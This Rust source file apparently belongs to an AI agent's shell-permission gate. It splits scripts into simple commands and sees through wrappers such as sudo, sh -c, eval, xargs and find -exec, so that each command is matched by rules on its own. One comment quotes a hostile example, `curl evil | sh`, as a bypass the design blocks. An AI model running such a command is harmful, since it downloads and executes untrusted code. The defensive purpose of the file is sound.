//! A shell script → the simple commands it runs, for per-command rules. This file owns the
//! walk over the parser's tree and seeing through wrappers (`env`, `timeout`, `sudo`,
//! `xargs`, `sh -c`, `eval`, `find -exec`); it does not judge commands (that is `decide` and
//! the gate) and does not expand variables: `$VAR` stays `$VAR`.
//!
//! Why per simple command: a rule `bash(git:*)` must not let `git log && curl evil | sh`
//! through. Every command that runs, including those inside substitutions and behind
//! wrappers, has to be matched on its own.

use super::command_safety::wrappers::{self, RESERVED, Unwrap};
use super::shell_words::{
    self, Command, MAX_DEPTH, Part, RedirKind, Redirect, Script, SubKind, Word,
};

/// One command as rules see it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SimpleCommand {
    /// The words after wrappers and leading `VAR=value` assignments are dropped. Literal text
    /// as is, `$VAR` as `$VAR`, a substitution as `$(…)` (its commands come out separately).
    pub words: Vec<String>,
    /// Targets of output redirects (`>`, `>>`, `&>`…), raw text, unresolved. Empty `words`
    /// with writes is a bare `> file`, which still truncates the file.
    pub writes: Vec<String>,
}

const TOO_DEEP: &str = "the command is nested too deeply to check";
/// The text a substitution shows as inside its word. Re-parsing such text (`sh -c "$(…)"`)
/// yields a command `…` that is not real: the substitution's commands were already taken.
const SUB_MARK: &str = "…";
const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "mksh", "ash"];

/// Splits `command` into the simple commands it runs, substitutions first. The only error
/// is nesting deeper than [`MAX_DEPTH`]; the caller must then not allow the command.
pub fn simple_commands(command: &str) -> Result<Vec<SimpleCommand>, String> {
    let mut splitter = Splitter::default();
    splitter.text(command, 0)?;
    Ok(splitter.out)
}

#[derive(Default)]
struct Splitter {
    out: Vec<SimpleCommand>,
}

type Split<T> = Result<T, String>;

/// Wrappers that run a command with more privileges: seen through, but never invisible.
const PRIVILEGED: &[&str] = &["sudo", "doas", "run0", "pkexec"];

impl Splitter {
    fn text(&mut self, src: &str, depth: usize) -> Split<()> {
        if depth > MAX_DEPTH {
            return Err(TOO_DEEP.to_string());
        }
        let script = shell_words::parse(src, depth).map_err(|_| TOO_DEEP.to_string())?;
        self.script(&script, depth)
    }

    fn script(&mut self, script: &Script, depth: usize) -> Split<()> {
        for pipeline in &script.pipelines {
            for command in &pipeline.commands {
                self.command(command, depth)?;
            }
        }
        Ok(())
    }

    fn command(&mut self, command: &Command, depth: usize) -> Split<()> {
        match command {
            Command::Simple { words, redirects } => {
                let writes = self.redirects(redirects, depth)?;
                let mut texts = Vec::new();
                for (i, word) in words.iter().enumerate() {
                    let text = self.word(word, depth)?;
                    // Leading assignments set variables; they are not the command.
                    if !(word.assign.is_some() && words[..i].iter().all(|w| w.assign.is_some())) {
                        texts.push(text);
                    }
                }
                self.simple(texts, writes, depth)
            }
            Command::Group { body, redirects } => {
                let writes = self.redirects(redirects, depth)?;
                let start = self.out.len();
                self.script(body, depth)?;
                // `{ a; b; } > f`: every command in the group writes to `f`.
                if self.out.len() == start {
                    self.push_writes(writes);
                } else {
                    for c in &mut self.out[start..] {
                        c.writes.extend(writes.iter().cloned());
                    }
                }
                Ok(())
            }
            Command::Function { body, .. } => self.command(body, depth),
        }
    }

    /// Output targets; every target word is walked, since `> $(cmd)` runs `cmd`.
    fn redirects(&mut self, redirects: &[Redirect], depth: usize) -> Split<Vec<String>> {
        let mut writes = Vec::new();
        for redirect in redirects {
            let target = self.word(&redirect.target, depth)?;
            if matches!(redirect.kind, RedirKind::Out) {
                writes.push(target);
            }
        }
        Ok(writes)
    }

    /// A word's display text; the commands of its substitutions are collected on the way.
    fn word(&mut self, word: &Word, depth: usize) -> Split<String> {
        let mut out = word
            .assign
            .as_ref()
            .map(|n| format!("{n}="))
            .unwrap_or_default();
        for part in &word.parts {
            match part {
                Part::Lit(s) => out.push_str(s),
                Part::Tilde(user) => {
                    out.push('~');
                    out.push_str(user);
                }
                Part::Var { name, .. } => {
                    out.push('$');
                    out.push_str(name);
                }
                Part::Sub(kind, script) => {
                    self.script(script, depth + 1)?;
                    let (open, close) = match kind {
                        SubKind::Command => ("$(", ")"),
                        SubKind::ProcessIn => ("<(", ")"),
                        SubKind::ProcessOut => (">(", ")"),
                    };
                    out.push_str(&format!("{open}{SUB_MARK}{close}"));
                }
            }
        }
        Ok(out)
    }

    /// Sees through wrappers until the command that really runs, then records it.
    fn simple(&mut self, mut words: Vec<String>, writes: Vec<String>, depth: usize) -> Split<()> {
        if depth > MAX_DEPTH {
            return Err(TOO_DEEP.to_string());
        }
        while let Some(first) = words.first() {
            let name = first.rsplit('/').next().unwrap_or(first).to_string();
            if SHELLS.contains(&name.as_str()) || name == "eval" {
                let code = match name.as_str() {
                    "eval" => Some(words[1..].join(" ")),
                    _ => inline_code(&words),
                };
                if let Some(code) = code {
                    self.text(&code, depth + 1)?;
                    self.push_writes(writes);
                    return Ok(());
                }
                break;
            }
            if name == "find" {
                self.find_exec(&words, depth)?;
                break;
            }
            if PRIVILEGED.contains(&name.as_str()) {
                // `sudo cargo test` is not `cargo test`: the whole command needs a rule of its
                // own, and the command it runs is checked too (so deny rules still see it).
                self.out.push(SimpleCommand {
                    words: words.clone(),
                    writes: Vec::new(),
                });
            }
            let skip = match name.as_str() {
                "xargs" => xargs_start(&words),
                _ => match wrappers::unwrap(&name, &words) {
                    Unwrap::Skip(n) => n,
                    Unwrap::NotWrapper => break,
                },
            };
            if skip >= words.len() && !RESERVED.contains(&name.as_str()) {
                // A wrapper alone (`env`, `sudo -s`, `xargs`) is itself the command.
                break;
            }
            words.drain(..skip.min(words.len()));
            drop_assignments(&mut words);
        }
        if words == [SUB_MARK] {
            return Ok(());
        }
        if !words.is_empty() || !writes.is_empty() {
            self.out.push(SimpleCommand { words, writes });
        }
        Ok(())
    }

    /// `find … -exec CMD … ;`: each CMD is a command of its own; `find` stays one too.
    fn find_exec(&mut self, words: &[String], depth: usize) -> Split<()> {
        let mut i = 1;
        while i < words.len() {
            if matches!(words[i].as_str(), "-exec" | "-execdir" | "-ok" | "-okdir") {
                let end = words[i + 1..]
                    .iter()
                    .position(|w| w == ";" || w == "+")
                    .map_or(words.len(), |e| i + 1 + e);
                self.simple(words[i + 1..end].to_vec(), Vec::new(), depth + 1)?;
                i = end;
            }
            i += 1;
        }
        Ok(())
    }

    fn push_writes(&mut self, writes: Vec<String>) {
        if !writes.is_empty() {
            self.out.push(SimpleCommand {
                words: Vec::new(),
                writes,
            });
        }
    }
}

/// `sh -c CODE`: the code word, when the flags include `c` (flag parsing as in the gate).
fn inline_code(words: &[String]) -> Option<String> {
    let (mut i, mut inline) = (1, false);
    while let Some(a) = words.get(i) {
        if a == "--" || a == "-" {
            i += 1;
            break;
        }
        if !(a.starts_with('-') || a.starts_with('+')) || a.len() < 2 {
            break;
        }
        i += 1;
        if a.starts_with("--") {
            i += usize::from(matches!(a.as_str(), "--rcfile" | "--init-file"));
            continue;
        }
        inline |= a.starts_with('-') && a.contains('c');
        i += usize::from(a.ends_with(['o', 'O']));
    }
    inline.then(|| words.get(i).cloned()).flatten()
}

/// Where the command of `xargs [flags] cmd…` starts.
fn xargs_start(words: &[String]) -> usize {
    let mut i = 1;
    while let Some(a) = words.get(i).filter(|a| a.starts_with('-')) {
        i += 1;
        match a.as_str() {
            "--" => break,
            "-I" | "-n" | "-L" | "-P" | "-s" | "-d" | "-E" | "-a" => i += 1,
            _ => {}
        }
    }
    i
}

/// `env A=1 B=2 cmd`: the assignments after a wrapper are not the command either.
fn drop_assignments(words: &mut Vec<String>) {
    let is_assignment = |w: &String| {
        w.split_once('=').is_some_and(|(name, _)| {
            let mut chars = name.chars();
            chars
                .next()
                .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
                && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
        })
    };
    let n = words.iter().take_while(|w| is_assignment(w)).count();
    words.drain(..n);
}
